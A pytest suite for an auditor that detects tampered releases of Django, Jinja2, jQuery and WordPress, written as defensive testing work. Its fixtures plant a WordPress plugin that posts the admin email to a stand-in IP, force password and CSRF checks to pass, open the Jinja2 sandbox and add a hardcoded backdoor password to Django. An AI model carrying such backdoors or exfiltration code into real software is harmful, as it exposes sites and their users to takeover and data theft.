"""Products without a profile, from their official registries: Django (PyPI wheel), Jinja2 (PyPI sdist),
jQuery (npm), WordPress (Debian). Tampered the way vendors do; every expectation comes from the edit
the test makes.

The packages are fetched once into .cache/pkgs (or $AUDITOR_TEST_CACHE/pkgs); the tests skip, saying
why, when a registry cannot be reached.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import urllib.request
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT, run_auditor, validate_report

CACHE = Path(os.environ.get("AUDITOR_TEST_CACHE", ROOT / ".cache")) / "pkgs"
#: product -> [(version, artefact name, how to fetch it, root inside the artefact)]
ARTEFACTS = {
    "django": [("5.0.6", "Django-5.0.6-py3-none-any.whl", ("pypi", "django==5.0.6"), None),
               ("5.0.4", "Django-5.0.4-py3-none-any.whl", ("pypi", "django==5.0.4"), None)],
    "jinja2": [("3.1.4", "jinja2-3.1.4.tar.gz", ("pypi-sdist", "jinja2==3.1.4"), "jinja2-3.1.4"),
               ("3.1.3", "Jinja2-3.1.3.tar.gz", ("pypi-sdist", "jinja2==3.1.3"), "Jinja2-3.1.3")],
    "jquery": [("3.7.1", "jquery-3.7.1.tgz", ("npm", "jquery/-/jquery-3.7.1.tgz"), "package"),
               ("3.7.0", "jquery-3.7.0.tgz", ("npm", "jquery/-/jquery-3.7.0.tgz"), "package")],
    "wordpress": [("6.1.9", "wordpress.deb", ("deb", "wordpress"), "usr/share/wordpress")],
}


def _fetch(name: str, how: tuple[str, str]) -> Path:
    CACHE.mkdir(parents=True, exist_ok=True)
    kind, spec = how
    if kind == "deb":
        have = sorted(CACHE.glob(f"{spec}_*.deb"))
        if not have:
            if shutil.which("apt-get") is None:
                pytest.skip("apt-get is not available: cannot fetch the Debian package")
            proc = subprocess.run(["apt-get", "download", spec], cwd=CACHE, capture_output=True, text=True, timeout=300)
            have = sorted(CACHE.glob(f"{spec}_*.deb"))
            if proc.returncode or not have:
                pytest.skip(f"Debian registry unreachable: {(proc.stderr.strip().splitlines() or ['?'])[-1]}")
        return have[-1]
    target = CACHE / name
    if target.exists():
        return target
    try:
        if kind == "npm":
            with urllib.request.urlopen(f"https://registry.npmjs.org/{spec}", timeout=60) as resp:
                target.write_bytes(resp.read())
        else:
            args = [sys.executable, "-m", "pip", "download", "--no-deps", "-q", "-d", str(CACHE), spec]
            args += ["--no-binary", ":all:"] if kind == "pypi-sdist" else ["--only-binary", ":all:"]
            proc = subprocess.run(args, capture_output=True, text=True, timeout=300)
            if proc.returncode:
                raise OSError(proc.stderr.strip().splitlines()[-1] if proc.stderr.strip() else "pip failed")
    except OSError as exc:
        pytest.skip(f"registry unreachable for {spec}: {exc}")
    if not target.exists():
        pytest.skip(f"{name} did not arrive")
    return target


#: (artefact, root) -> the pristine unpacked tree, unpacked once per session (an xz-compressed .deb costs
#: about a second each time; a copy of the unpacked tree a few hundredths)
_UNPACKED: dict[tuple[Path, str | None], Path] = {}


def _unpack(artefact: Path, root: str | None) -> Path:
    key = (artefact, root)
    if key not in _UNPACKED:
        import atexit
        import tempfile
        tmp = Path(tempfile.mkdtemp(prefix="auditor-unpacked-"))
        atexit.register(shutil.rmtree, tmp, True)
        if artefact.suffix == ".whl":
            with zipfile.ZipFile(artefact) as z:
                z.extractall(tmp)
                for info in z.infolist():   # as pip does: an executable member stays executable
                    if (info.external_attr >> 16) & 0o111:
                        os.chmod(tmp / info.filename, 0o755)
        elif artefact.suffix == ".deb":
            from debian.debfile import DebFile
            with DebFile(str(artefact)).data.tgz() as tar:
                tar.extractall(tmp, filter="tar")
        else:
            with tarfile.open(artefact) as tar:
                tar.extractall(tmp, filter="tar")
        _UNPACKED[key] = tmp / root if root else tmp
    return _UNPACKED[key]


def _extract(artefact: Path, root: str | None, dest: Path) -> Path:
    """Unpack the artefact the way an install does (the test does this, never auditor), into ``dest``: a
    fresh copy of the session's pristine unpacking (modes and times kept, links copied as links)."""
    shutil.copytree(_unpack(artefact, root), dest, symlinks=True)
    return dest


#: product -> a baselines directory with every release of ARTEFACTS[product], built once per test session
#: (this module, test_trust and test_osv read the same real artefacts; each build reads a whole package)
_BUILT: dict[str, Path] = {}


def built(product: str) -> Path:
    """A baselines directory holding ``<product>/<version>.yaml`` (with the content pack) of every release
    of ``product`` in ARTEFACTS, built by the CLI from the real artefacts, once per session. Read only."""
    if product not in _BUILT:
        import atexit
        import tempfile
        base = Path(tempfile.mkdtemp(prefix=f"auditor-built-{product}-"))
        atexit.register(shutil.rmtree, base, True)
        for version, name, how, root in ARTEFACTS[product]:
            args = ["baseline", "build", _fetch(name, how), "--product", product, "--version", version, "--content",
                    "--out", base / product / f"{version}.yaml"]
            if root:
                args += ["--root", root]
            proc = run_auditor(*args)
            assert proc.returncode == 0, proc.stderr
        _BUILT[product] = base
    return _BUILT[product]


@pytest.fixture(scope="module")
def products(tmp_path_factory):
    """Per product: its baselines (built with --content) and a fresh-install factory."""
    base = tmp_path_factory.mktemp("generic")
    out = {}
    for product, releases in ARTEFACTS.items():
        version, name, how, root = releases[0]
        out[product] = {"baselines": built(product) / product, "version": version,
                        "artefact": _fetch(name, how), "root": root}
    out["_base"] = base
    return out


def _install(products, product: str, name: str) -> Path:
    p = products[product]
    return _extract(p["artefact"], p["root"], products["_base"] / name)


def _audit(target, baselines, *extra):
    proc = run_auditor("audit", target, "--baselines", baselines, "--format", "json", *extra)
    assert proc.returncode in (0, 1), proc.stderr
    report = json.loads(proc.stdout)
    validate_report(report)
    return report, proc.returncode


@pytest.mark.parametrize("product", list(ARTEFACTS))
def test_a_genuine_tree_has_no_findings(products, product):
    tree = _install(products, product, f"genuine-{product}")
    report, rc = _audit(tree, products[product]["baselines"])
    assert (report["product"], report["identified_version"]) == (product, products[product]["version"])
    assert report["findings"] == [] and rc == 0
    assert report["changes"]["content_pack"] == "content.zip"


def test_version_strings_only_edit_gives_no_outbound_endpoint_at_medium_or_above(products):
    """A version-faked jQuery 3.7.1 that says 3.7.9 everywhere (the case that gave 114 endpoint findings)."""
    tree = _install(products, "jquery", "fake-jquery")
    edited = []
    for f in sorted(p for p in tree.rglob("*") if p.is_file()):
        text = f.read_bytes()
        if b"3.7.1" in text:
            f.write_bytes(text.replace(b"3.7.1", b"3.7.9"))
            edited.append(f.relative_to(tree).as_posix())
    assert len(edited) >= 3
    report, _ = _audit(tree, products["jquery"]["baselines"])
    assert report["identified_version"] == "3.7.1" and report["claimed_version"] == "3.7.9"
    endpoints = [f for f in report["findings"] if f["category"] == "outbound-endpoint"
                 and f["severity"] in ("critical", "high", "medium")]
    assert endpoints == []
    modified = {f["path"]: f for f in report["findings"] if f["category"] == "modified-file"}
    assert set(modified) == set(edited)
    assert all(f["evidence"]["diff"]["class"] == "version" and f["severity"] == "low" for f in modified.values())
    assert any(f["category"] == "version-mismatch" for f in report["findings"])


def test_an_added_vendor_module_calling_home_is_one_finding_per_host(products):
    tree = _install(products, "wordpress", "wp-callhome")
    plugin = tree / "wp-content/plugins/hds-sync/hds-sync.php"
    plugin.parent.mkdir(parents=True)
    plugin.write_text("""<?php
/*
 * Plugin Name: HDS Sync (docs: https://docs.helpdesk-sync.org/manual)
 */
// mirror of https://mirror.helpdesk-sync.org/
$endpoint = 'http://198.51.100.42/collect';
$backup   = "http://198.51.100.42/collect/v2";
$cdn      = 'https://cdn.helpdesk-sync.org/tracker.js';
wp_remote_post($endpoint, array('body' => get_option('admin_email')));
""")
    report, _ = _audit(tree, products["wordpress"]["baselines"])
    eps = [f for f in report["findings"] if f["category"] == "outbound-endpoint"]
    rel = "wp-content/plugins/hds-sync/hds-sync.php"
    # one finding per host, with every line; the hosts in comments are not traffic
    assert sorted((f["evidence"]["host"], f["path"]) for f in eps) == [("198.51.100.42", rel),
                                                                       ("cdn.helpdesk-sync.org", rel)]
    ip = next(f for f in eps if f["evidence"]["host"] == "198.51.100.42")
    assert ip["evidence"]["lines"] == [6, 7] and ip["severity"] == "critical"
    assert ip["evidence"]["urls"] == ["http://198.51.100.42/collect", "http://198.51.100.42/collect/v2"]


#: (product, file, old text, new text) — a weakened security check in a core file
WEAKENINGS = [
    ("django", "django/contrib/auth/hashers.py", "    iterations = 720000\n", "    iterations = 1000\n"),
    ("django", "django/middleware/csrf.py", "        if getattr(callback, \"csrf_exempt\", False):\n",
     "        if True or getattr(callback, \"csrf_exempt\", False):\n"),
    ("jinja2", "src/jinja2/sandbox.py",
     "        return not (attr.startswith(\"_\") or is_internal_attribute(obj, attr))\n",
     "        return True\n"),
    ("wordpress", "wp-includes/pluggable.php", "\t\t$check = $wp_hasher->CheckPassword( $password, $hash );\n",
     "\t\t$check = true;\n"),
]


@pytest.mark.parametrize("product,path,old,new", WEAKENINGS, ids=[w[1] for w in WEAKENINGS])
def test_a_weakened_security_check_is_a_security_sensitive_change_with_its_diff(products, product, path, old, new):
    tree = _install(products, product, f"weak-{product}-{path.replace('/', '-')}")
    f = tree / path
    text = f.read_text()
    assert text.count(old) >= 1, "the official file has the check"
    f.write_text(text.replace(old, new, 1))
    report, rc = _audit(tree, products[product]["baselines"])
    hits = [x for x in report["findings"] if x["path"] == path]
    assert [(x["category"], x["severity"]) for x in hits] == [("security-sensitive-change", "high")]
    diff = hits[0]["evidence"]["diff"]
    removed = [line[1:] for h in diff["hunks"] for line in h["lines"] if line.startswith("-")]
    added = [line[1:] for h in diff["hunks"] for line in h["lines"] if line.startswith("+")]
    assert removed == old.rstrip("\n").split("\n")[:len(removed)] and old.split("\n")[0] in removed
    assert new.split("\n")[0] in added
    assert diff["class"] == "code" and rc == 1


def test_padding_does_not_hide_the_release_or_a_backdoored_module(products):
    """A genuine tree + one backdoored core module + 700 junk files (it used to be "not identified")."""
    tree = _install(products, "django", "padded")
    backends = tree / "django/contrib/auth/backends.py"
    backends.write_text(backends.read_text() + "\n\ndef _support(password):\n    return password == 'hds-2024'\n")
    junk = tree / "django/contrib/vendor_cache"
    junk.mkdir()
    for i in range(700):
        (junk / f"c{i:03d}.txt").write_text(f"cache entry {i}\n")
    report, rc = _audit(tree, products["django"]["baselines"], "--fail-on", "high")
    assert report["identified_version"] == "5.0.6" and report["identification"]["extra_files"] == 700
    assert report["identification"]["precision"] > 0.99
    hit = [x for x in report["findings"] if x["path"] == "django/contrib/auth/backends.py"]
    assert [(x["category"], x["severity"]) for x in hit] == [("security-sensitive-change", "high")]
    assert rc == 1
    assert sum(1 for x in report["findings"] if x["category"] == "added-file") == 700


def test_without_a_content_pack_the_report_says_diffs_are_unavailable(products, tmp_path):
    plain = tmp_path / "plain"
    shutil.copytree(products["jinja2"]["baselines"], plain)
    (plain / "content.zip").unlink()
    tree = _install(products, "jinja2", "jinja-nopack")
    sandbox = tree / "src/jinja2/sandbox.py"
    sandbox.write_text(sandbox.read_text().replace("MAX_RANGE = 100000", "MAX_RANGE = 10**9"))
    report, _ = _audit(tree, plain)
    f = [x for x in report["findings"] if x["path"] == "src/jinja2/sandbox.py"]
    assert [x["category"] for x in f] == ["modified-file"]
    assert f[0]["evidence"]["diff"] == {"available": False, "reason": re.sub(
        r"\s+", " ", "no content pack for jinja2 3.1.4 (build its baseline with --content)")}
    assert report["changes"]["content_pack"] is None and "diffs are unavailable" in report["changes"]["note"]
